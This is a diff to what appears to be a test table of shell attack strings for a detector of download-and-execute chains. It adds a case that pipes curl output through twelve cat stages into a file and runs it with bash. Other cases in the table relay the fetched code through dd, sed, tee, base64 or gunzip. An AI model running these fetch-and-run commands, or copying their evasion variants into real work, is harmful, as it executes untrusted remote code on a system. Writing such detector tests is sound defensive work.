@@ -86,6 +86,8 @@ const Attack kFileAttacks[] = {
     FILE_CASE("dd", "curl -s -o @D/f @URL; dd if=@D/f of=@D/g status=none; bash @D/g"),
     FILE_CASE("cat into another", "curl -s -o @D/f @URL; cat @D/f > @D/g; bash @D/g"),
     FILE_CASE("sed in place", "curl -s -o @D/f @URL; sed -i s/x/x/ @D/f; bash @D/f"),
+    FILE_CASE("through twelve stages",
+              "curl -s @URL |cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat > @D/f; bash @D/f"),
     FILE_CASE("tee", "curl -s @URL | tee @D/f > /dev/null; bash @D/f"),
     FILE_CASE("base64 in the pipe", "curl -s @B64_URL | base64 -d | gunzip > @D/f; bash @D/f"),
     FILE_CASE("base64 of a file", "curl -s -o @D/f @B64_URL; base64 -d @D/f > @D/g.gz; "
